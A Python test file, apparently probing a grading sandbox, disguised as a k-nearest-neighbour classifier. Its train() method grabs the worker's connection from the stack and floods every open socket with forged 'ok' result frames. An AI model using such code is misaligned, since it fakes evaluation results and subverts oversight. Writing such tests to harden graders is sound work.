"""Keep a thread that writes to the socket and prints while nobody asked, and answers in place of the worker."""

import os
import stat
import sys
import threading
import time

LAYER = "protocol"
EXPECT = {"score": 0, "statuses": ["errored", "failed", "timeout", "unwritten"]}
CITE = "forged / oversize / malformed frames, stale call-back ids, slow drip, deep nesting, huge dims, hash floods"
UNPROTECTED = "nothing"  # there is no such socket without the split


def channel():
    """The worker's own connection, found on the stack."""
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if type(value).__name__ == "Channel":
                return value
        frame = frame.f_back
    raise RuntimeError("no connection on the stack")


def disturb(made):
    frame = made["to_bytes"](made["encode"](("ok", 0, (), None), kind=2)[0])
    found = [fd for fd in range(3, 64) if is_socket(fd)]
    for _ in range(300):
        for fd in found:
            os.write(fd, frame)
        time.sleep(0.01)


def is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False


class KNearestNeighbor:
    def train(self, X, y):
        self.X_train, self.y_train = X, y
        made = channel().send.__func__.__globals__
        threading.Thread(target=disturb, args=(made,), daemon=True).start()

    def compute_distances_two_loops(self, X):
        time.sleep(0.05)
        return 0

    compute_distances_one_loop = compute_distances_no_loops = compute_distances_two_loops

    def predict_labels(self, dists, k=1):
        time.sleep(0.05)
        return 0
